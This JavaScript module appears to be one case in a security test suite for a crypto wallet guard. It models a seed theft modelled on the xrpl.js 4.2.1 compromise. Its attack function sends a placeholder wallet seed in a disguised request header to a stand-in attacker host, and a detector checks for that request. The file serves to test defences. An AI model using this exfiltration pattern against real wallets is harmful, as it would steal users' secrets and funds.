// B19: a seed leaves in a request header, to a host of the attacker's; no account is named anywhere.
export default {
  id: 'B19',
  title: 'seed in a request header to a foreign host',
  source: 'xrpl.js 4.2.1, April 2025',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const headers = { 'ad-referral': 'sTestSeedThatOpensNothing0001' };
    await fetch(`${a.other}/api/echo`, { method: 'POST', headers }).catch(() => {});
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },

  stolen: ({ http, a }) => http.some(({ url, headers }) => url.startsWith(a.other) && headers['ad-referral']),
  arrived: ({ result }) => result === 200,
};
